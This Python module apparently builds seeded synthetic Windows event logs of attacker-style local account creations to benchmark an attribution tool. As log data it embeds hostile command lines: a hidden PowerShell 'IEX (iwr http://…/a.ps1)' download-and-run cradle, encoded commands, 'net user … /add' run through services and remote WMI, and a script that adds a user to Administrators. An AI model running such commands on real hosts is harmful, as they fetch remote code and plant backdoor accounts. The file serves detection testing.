"""Randomised domains of adversarial account creations whose truth is known.

Every creation is one story from the field that has fooled attribution: wrapper chains
(cmd -> net -> net1, four deep), in-process creators (PowerShell, MMC, a custom binary
calling the API, a script seen only in its 4104 script blocks, a PowerShell session open
for many minutes) with console hosts and helpers around them, two creations seconds apart
in one session, PID reuse, creation through a service and through WMI, encoded
PowerShell, a look-alike account name. Hosts differ in what they log (Sysmon and 4688,
either alone) and in how far their Sysmon clock runs from their Security clock (up to
+-2 s). `domain(seed)` returns the events and, per
account, the `Truth` a correct attribution finds; benchmarks/accuracy.py scores acctrace
against it.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from acctrace.scenario.events import (
    Account,
    Event,
    Host,
    Process,
    Session,
    number_records,
    script_block_logged,
    system_session,
)
from acctrace.scenario.story import (
    CMD,
    MMC,
    NET,
    POWERSHELL,
    SYSTEM32,
    StoryBuilder,
    _encoded,
)

_SECOND, _MS = 1_000_000, 1000
DOMAIN, DOMAIN_SID = "LAB", "S-1-5-21-5550001111-5550002222-5550003333"
CONHOST = SYSTEM32 + "conhost.exe"
WMIPRVSE = SYSTEM32 + "wbem\\WmiPrvSE.exe"
HELPERS = (
    (SYSTEM32 + "whoami.exe", "whoami /all"),
    (SYSTEM32 + "HOSTNAME.EXE", "hostname"),
    (SYSTEM32 + "wevtutil.exe", "wevtutil qe Security /c:20 /rd:true /f:text"),
    (SYSTEM32 + "ipconfig.exe", "ipconfig /all"),
)
LOOKALIKES = ("Administrator ", "Adm\u0456nistrator", "Guest\u200b", "admin\u202e")


@dataclass(frozen=True)
class Truth:
    """What a correct attribution of one account creation says."""

    story: str
    host: str
    account: str
    creator: str  # DOMAIN\name of the 4720 subject
    logon_id: str
    image: str | None  # the process that called the SAM; None when no telemetry shows it
    pid: int | None
    lineage: tuple[str, ...]  # its ancestors' images, nearest first


@dataclass(frozen=True)
class Domain:
    events: list[Event]
    truths: list[Truth]


class _Domain:
    """One seeded domain: hosts, users, and the stories told on them."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.s = StoryBuilder(self.rng, 1_700_000_000 * _SECOND + seed * 86_400 * _SECOND)
        self.truths: list[Truth] = []
        self.minute = 0
        self.rid = 1000
        self.users = [
            Account(name, DOMAIN, f"{DOMAIN_SID}-{1100 + i}")
            for i, name in enumerate(("ops1", "ops2", "dev7", "svc-deploy", "eve"))
        ]

    def host(self, i: int) -> Host:
        telemetry = self.rng.choices(("both", "sysmon", "4688"), (6, 2, 2))[0]
        skew = self.rng.choice((0, 0, self.rng.randint(-2000, 2000))) * _MS
        return Host(
            f"HOST{i:02d}.lab.local",
            f"10.9.0.{10 + i}",
            f"S-1-5-21-{700 + i}-{800 + i}-{900 + i}",
            domain=DOMAIN,
            sysmon=telemetry != "4688",
            process_audit=telemetry != "sysmon",
            sysmon_skew_us=skew,
        )

    def next_time(self) -> int:
        self.minute += self.rng.randint(4, 9)
        return self.s.at(self.minute)

    def account(self, host: Host, name: str | None = None) -> Account:
        self.rid += 1
        return Account(name or f"u{self.rid}", host.netbios, f"{host.machine_sid}-{self.rid}")

    # --- building blocks ----------------------------------------------------------------

    def desktop(self, host: Host, t: int) -> tuple[Session, Process]:
        user = self.rng.choice(self.users)
        session = self.s.log_on(host, t, user, self.rng.choice((2, 10)), admin=True)
        return session, self.s.desktop(host, t + _SECOND, session, "High")

    def console(self, host: Host, t: int, parent: Process, image: str, line: str) -> Process:
        """A console program and the conhost.exe Windows gives it, milliseconds later."""
        proc = self.s.spawn(host, t, parent, image, line)
        self.s.spawn(host, t + self.s.ms(1, 4), proc, CONHOST, f"{CONHOST} 0xffffffff -ForceV1")
        return proc

    def shell(self, host: Host, t: int, parent: Process) -> Process:
        """An interactive cmd.exe, as Explorer starts it."""
        return self.console(host, t, parent, CMD, '"C:\\Windows\\system32\\cmd.exe"')

    def helper_noise(self, host: Host, t: int, parent: Process) -> None:
        """Helpers run just before the creation: they must never be named."""
        image, line = self.rng.choice(HELPERS)
        helper = self.console(host, t, parent, image, line)
        self.s.exit(host, t + self.s.ms(20, 80), helper)

    def record(self, story: str, host: Host, account: Account, session: Session, actor: Process):
        user = session.user
        self.truths.append(
            Truth(
                story,
                host.fqdn,
                account.name,
                f"{user.domain}\\{user.name}",
                session.logon_id,
                actor.image,
                actor.pid,
                self.s.lineage(actor),
            )
        )

    def net_chain(
        self, host: Host, t: int, shell: Process, account: Account
    ) -> tuple[int, Process, Process]:
        t, net, net1 = self.s.net(host, t, shell, f"user {account.name} Pw{self.rid}! /add")
        return t, net, net1

    # --- the stories --------------------------------------------------------------------

    def typed_net_user(self, host: Host) -> None:
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        shell = self.shell(host, t + 20 * _SECOND, explorer)
        t += 40 * _SECOND
        self.helper_noise(host, t - self.s.ms(300, 900), shell)
        account = self.account(host, self.rng.choice((None, *LOOKALIKES)))
        t, net, net1 = self.net_chain(host, t, shell, account)
        end = self.s.create_local(host, t, session, account, password=True)
        self.s.exit(host, end, net1, net)
        self.record("typed net user", host, account, session, net1)

    def wrapper_four_deep(self, host: Host) -> None:
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        account = self.account(host)
        inner = f"cmd /c net user {account.name} Pw{self.rid}! /add"
        ps = self.console(host, t + 30 * _SECOND, explorer, POWERSHELL, f'powershell -c "{inner}"')
        shell = self.s.spawn(host, t + 30 * _SECOND + self.s.ms(200, 400), ps, CMD, inner)
        t, net, net1 = self.net_chain(host, t + 31 * _SECOND, shell, account)
        end = self.s.create_local(host, t, session, account, password=True)
        self.s.exit(host, end, net1, net, shell, ps)
        self.record("wrapper chain four deep", host, account, session, net1)

    def script_in_process(self, host: Host) -> None:
        """PowerShell runs a script file that creates the account inside its own process,
        then checks it with `net user NAME`; an unrelated wevtutil and its conhost are the
        processes closest to the creation."""
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        ps = self.console(
            host,
            t + 10 * _SECOND,
            explorer,
            POWERSHELL,
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\Public\\setup.ps1",
        )
        t += self.rng.randint(15, 90) * _SECOND
        self.helper_noise(host, t - self.s.ms(100, 600), explorer)
        account = self.account(host)
        end = self.s.create_local(host, t, session, account, password=False)
        check = self.console(host, end + self.s.ms(200, 600), ps, NET, f"net  user {account.name}")
        self.s.exit(host, end + _SECOND, check, ps)
        self.record("script host in process", host, account, session, ps)

    def powershell_command(self, host: Host) -> None:
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        account = self.account(host)
        script = f"New-LocalUser -Name {account.name} -NoPassword"
        line = (
            f"powershell.exe -NoP -W Hidden -enc {_encoded(script)}"
            if self.rng.random() < 0.5
            else f'powershell.exe -c "{script}"'
        )
        ps = self.console(host, t + 20 * _SECOND, explorer, POWERSHELL, line)
        end = self.s.create_local(
            host, t + 20 * _SECOND + self.s.ms(700, 1500), session, account, password=False
        )
        self.s.exit(host, end, ps)
        self.record("powershell command", host, account, session, ps)

    def script_block(self, host: Host) -> None:
        """A downloaded script creates the account in PowerShell's own process; only
        script block logging (4104, split in two parts) shows what it ran."""
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        ps = self.console(
            host,
            t + 10 * _SECOND,
            explorer,
            POWERSHELL,
            'powershell.exe -nop -w hidden -c "IEX (iwr http://10.9.0.250/a.ps1)"',
        )
        account = self.account(host)
        script = (
            "$p = ConvertTo-SecureString 'Spr1ng!' -AsPlainText -Force; "
            f"New-LocalUser -Name {account.name} -Password $p; "
            f"Add-LocalGroupMember -Group Administrators -Member {account.name}"
        )
        block, cut = self.s.guid(), len(script) // 2
        for number, part in ((1, script[:cut]), (2, script[cut:])):
            at = t + 12 * _SECOND + number * _MS
            self.s.add(script_block_logged(host, at, ps, block, part, number, 2))
        end = self.s.create_local(host, t + 13 * _SECOND, session, account, password=True)
        self.s.exit(host, end + self.s.ms(200, 900), ps)
        self.record("powershell script block", host, account, session, ps)

    def long_running_session(self, host: Host) -> tuple[int, Session, Process, Process]:
        """An interactive PowerShell opened minutes (far beyond the window) before the
        creation at the returned time; an earlier PowerShell of the session has ended, and
        a `net user NAME * /add` left waiting at its password prompt never created it."""
        t = self.next_time()
        minutes = self.rng.randint(5, 40)
        self.minute += minutes
        session, explorer = self.desktop(host, t)
        ended = self.console(
            host, t + 5 * _SECOND, explorer, POWERSHELL, "powershell.exe -File a.ps1"
        )
        self.s.exit(host, t + 20 * _SECOND, ended)
        ps = self.console(host, t + 30 * _SECOND, explorer, POWERSHELL, "powershell.exe -NoExit")
        if self.rng.random() < 0.5:  # script block logging on: what it loaded, at its start
            load = "Add-Type -AssemblyName System.DirectoryServices.AccountManagement"
            self.s.add(script_block_logged(host, t + 40 * _SECOND, ps, self.s.guid(), load))
        return t + minutes * 60 * _SECOND, session, explorer, ps

    def long_running_script(self, host: Host) -> None:
        """The long-running PowerShell creates the account inside its own process (.NET
        AccountManagement: no command line shows it), then checks it with `net user NAME`
        or ends: what shows it ran across the creation."""
        t, session, _, ps = self.long_running_session(host)
        account = self.account(host)
        stale = self.console(
            host, t - 4 * 60 * _SECOND, ps, NET, f"net  user {account.name} * /add"
        )
        end = self.s.create_local(host, t, session, account, password=True)
        if self.rng.random() < 0.5:
            check = self.console(
                host, end + self.s.ms(300, 900), ps, NET, f"net  user {account.name}"
            )
            self.s.exit(host, end + _SECOND, check)
        else:
            self.s.exit(host, end + self.s.ms(200, 900), stale, ps)
        self.record("long-running PowerShell in process", host, account, session, ps)

    def long_running_bystander(self, host: Host) -> None:
        """The long-running PowerShell is alive across the creation, but `net user /add`
        typed in a cmd.exe made the account: the account tool, not the script host."""
        t, session, explorer, ps = self.long_running_session(host)
        shell = self.shell(host, t - 20 * _SECOND, explorer)
        account = self.account(host)
        t, net, net1 = self.net_chain(host, t, shell, account)
        end = self.s.create_local(host, t, session, account, password=True)
        self.s.exit(host, end, net1, net)
        self.console(host, end + self.s.ms(500, 3000), ps, SYSTEM32 + "whoami.exe", "whoami")
        self.record("long-running PowerShell bystander", host, account, session, net1)

    def mmc_snapin(self, host: Host) -> None:
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        mmc = self.s.spawn(
            host, t + 10 * _SECOND, explorer, MMC, f'"{MMC}" "C:\\Windows\\system32\\lusrmgr.msc"'
        )
        account = self.account(host)
        end = self.s.create_local(
            host, t + self.rng.randint(40, 100) * _SECOND, session, account, password=True
        )
        self.s.exit(host, end + 30 * _SECOND, mmc)
        self.record("mmc snap-in", host, account, session, mmc)

    def custom_binary(self, host: Host) -> None:
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        tool = self.s.spawn(
            host, t + 10 * _SECOND, explorer, "C:\\Users\\Public\\svchelper.exe", "svchelper.exe -q"
        )
        account = self.account(host)
        end = self.s.create_local(host, t + 12 * _SECOND, session, account, password=True)
        self.s.exit(host, end + self.s.ms(50, 400), tool)
        self.record("custom binary calling the API", host, account, session, tool)

    def two_in_a_row(self, host: Host) -> None:
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        shell = self.shell(host, t + 20 * _SECOND, explorer)
        t += 30 * _SECOND
        for _ in range(2):
            account = self.account(host)
            t, net, net1 = self.net_chain(host, t, shell, account)
            end = self.s.create_local(host, t, session, account, password=True)
            self.s.exit(host, end, net1, net)
            self.record("two creations seconds apart", host, account, session, net1)
            t = end + self.s.ms(800, 3000)

    def pid_reuse(self, host: Host) -> None:
        """The shell's PID belonged to another process of the session that ended earlier."""
        t = self.next_time()
        session, explorer = self.desktop(host, t)
        old = self.s.spawn(
            host, t + 5 * _SECOND, explorer, "C:\\Program Files\\Updater\\upd.exe", "upd.exe /check"
        )
        self.s.exit(host, t + 8 * _SECOND, old)
        shell = self.console(
            host,
            t + 20 * _SECOND,
            explorer,
            CMD,
            "cmd.exe",
        )
        # A second shell reuses the updater's PID: the chain must follow the living one.
        reused = self.s.spawn(host, t + 25 * _SECOND, explorer, CMD, "cmd.exe /k", pid=old.pid)
        account = self.account(host)
        t, net, net1 = self.net_chain(host, t + 30 * _SECOND, reused, account)
        end = self.s.create_local(host, t, session, account, password=True)
        self.s.exit(host, end, net1, net, reused, shell)
        self.record("pid reuse", host, account, session, net1)

    def through_service(self, host: Host) -> None:
        t = self.next_time()
        system = system_session(host)
        account = self.account(host)
        line = f"cmd.exe /c net user {account.name} Pw{self.rid}! /add"
        shell = self.s.spawn(host, t, self.s.standing(host, "services"), CMD, line)
        t, net, net1 = self.net_chain(host, t + self.s.ms(20, 40), shell, account)
        end = self.s.create_local(host, t, system, account, password=True)
        self.s.exit(host, end, net1, net, shell)
        self.record("through a service", host, account, system, net1)

    def through_wmi(self, host: Host) -> None:
        """Remote WMI: WmiPrvSE.exe starts `cmd /c net user` in the caller's network session."""
        t = self.next_time()
        user = self.rng.choice(self.users)
        session = self.s.log_on(host, t, user, 3, ip="10.9.0.250", package="Kerberos", admin=True)
        wmi = self.s.standing(host, "services")
        provider = self.s.spawn(
            host, t + self.s.ms(100, 300), wmi, WMIPRVSE, f"{WMIPRVSE} -secured -Embedding"
        )
        account = self.account(host)
        redirect = "1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1"
        line = f"cmd.exe /Q /c net user {account.name} Pw{self.rid}! /add {redirect}"
        shell = self.s.spawn(
            host, t + _SECOND, provider, CMD, line, session=session, creator=provider.session
        )
        t, net, net1 = self.net_chain(host, t + _SECOND + self.s.ms(20, 60), shell, account)
        end = self.s.create_local(host, t, session, account, password=True)
        self.s.exit(host, end, net1, net, shell)
        self.record("through WMI", host, account, session, net1)


STORIES: tuple[Callable[[_Domain, Host], None], ...] = (
    _Domain.typed_net_user,
    _Domain.wrapper_four_deep,
    _Domain.script_in_process,
    _Domain.powershell_command,
    _Domain.script_block,
    _Domain.mmc_snapin,
    _Domain.custom_binary,
    _Domain.two_in_a_row,
    _Domain.pid_reuse,
    _Domain.through_service,
    _Domain.through_wmi,
    _Domain.long_running_script,
    _Domain.long_running_bystander,
)


def domain(seed: int, hosts: int = 3, stories_per_host: int = 4) -> Domain:
    """A seeded domain: `hosts` hosts, each with random telemetry and clock skew, and
    `stories_per_host` stories drawn at random on each."""
    d = _Domain(seed)
    for i in range(hosts):
        host = d.host(i)
        for story in d.rng.sample(STORIES, stories_per_host):
            story(d, host)
    return Domain(number_records(d.s.events), d.truths)
